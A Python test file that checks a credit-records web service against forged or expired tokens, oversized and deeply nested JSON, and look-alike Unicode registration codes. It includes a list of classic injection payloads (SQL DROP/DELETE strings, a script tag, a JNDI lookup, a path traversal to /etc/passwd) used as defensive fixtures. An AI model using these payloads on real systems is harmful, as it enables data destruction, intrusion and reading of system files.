"""Hostile input (issue 5): forged and stale tokens, injection strings, huge and deeply nested
JSON, Unicode look-alikes in USCCs. Each is refused or stored as plain data, never a 500."""

from __future__ import annotations

import time

import httpx
import pytest
from joserfc import jwt

from services.credit.context import CreditContext
from tests.credit.conftest import TokenFactory
from tests.credit.factories import unit_body
from tests.credit.records_factory import penalty

INJECTIONS = [
    "'; DROP TABLE credit.units; --",
    '" OR 1=1 --',
    "<script>alert('x')</script>",
    "${jndi:ldap://example.invalid/a}",
    "../../etc/passwd",
    "%00%27",
    "延吉'); DELETE FROM credit.records; --",
]


def _token(ctx: CreditContext, **overrides: object) -> str:
    now = int(time.time())
    claims = {
        "iss": ctx.settings.issuer,
        "aud": ctx.settings.audience,
        "sub": "c",
        "dept": "d",
        "scope": "units:list",
        "iat": now,
        "nbf": now,
        "exp": now + 300,
        "jti": "j",
    }
    claims.update(overrides)
    header = {"alg": "ES256", "kid": ctx.tokens.signing_key.kid}
    return str(jwt.encode(header, claims, ctx.tokens.signing_key, algorithms=["ES256"]))


@pytest.mark.parametrize(
    "claims",
    [
        {"exp": int(time.time()) - 3600},
        {"nbf": int(time.time()) + 3600},
        {"aud": "another-service"},
        {"iss": "https://impostor.example"},
    ],
    ids=["expired", "not-yet-valid", "wrong-audience", "wrong-issuer"],
)
async def test_stale_or_foreign_tokens(
    client: httpx.AsyncClient, credit_ctx: CreditContext, claims: dict[str, int]
) -> None:
    answer = await client.get("/v1/units", headers={"Authorization": f"Bearer {_token(credit_ctx, **claims)}"})
    assert answer.status_code == 401
    assert answer.headers["www-authenticate"].startswith("Bearer")


async def test_injection_strings_are_data(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    h = auth("units:write", "units:read", "units:list", "records:write", "records:read")
    for text in INJECTIONS:
        unit = unit_body(name=f"延吉市{text}", address=text, reg_authority=text)
        created = await client.post("/v1/units", json=unit, headers=h)
        assert created.status_code in (201, 422), created.text
        if created.status_code == 201:
            assert created.json()["name"] == f"延吉市{text}"
            record = penalty(unit["uscc"], legal_basis=text, details={"facts": text, "violation_type": text})
            stored = await client.post("/v1/records", json=record, headers=h)
            assert stored.status_code == 201, stored.text
            assert stored.json()["details"]["facts"] == text
        found = await client.get("/v1/units", params={"name_contains": text[:50]}, headers=h)
        assert found.status_code == 200
    assert (await client.get("/v1/units", params={"limit": 1}, headers=h)).status_code == 200


async def test_huge_and_deeply_nested_json(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    h = {**auth("units:write"), "content-type": "application/json"}
    nested = b"[" * 100_000 + b"]" * 100_000
    answer = await client.post("/v1/units:bulk-upsert", content=nested, headers=h)
    assert answer.status_code in (400, 422)
    deep_object = ('{"items": [' + '{"a":' * 5000 + "1" + "}" * 5000 + "]}").encode()
    answer = await client.post("/v1/units:bulk-upsert", content=deep_object, headers=h)
    assert answer.status_code in (200, 400, 422)
    assert answer.status_code != 200 or answer.json()["counts"]["rejected"] == 1
    huge = await client.post("/v1/units", content=b'{"name": "' + b"x" * (17 * 1024 * 1024) + b'"}', headers=h)
    assert huge.status_code == 413


@pytest.mark.parametrize(
    "lookalike",
    [
        "91350100М000100Y43",  # Cyrillic М
        "91350100M000100Ү43",  # Cyrillic Ү
        "９１３５０１００Ｍ０００１００Ｙ４３x",  # full width plus an extra character
        "91350100M000100Y4\u200b3",  # zero-width space inside
        "91350100M000100Y43\u0000",
    ],
)
async def test_confusable_usccs_are_refused_or_folded(
    client: httpx.AsyncClient, auth: TokenFactory, lookalike: str
) -> None:
    answer = await client.post("/v1/units", json=unit_body(uscc=lookalike), headers=auth("units:write"))
    assert answer.status_code == 422, answer.text
    assert answer.json()["errors"][0]["field"] == "body.uscc"
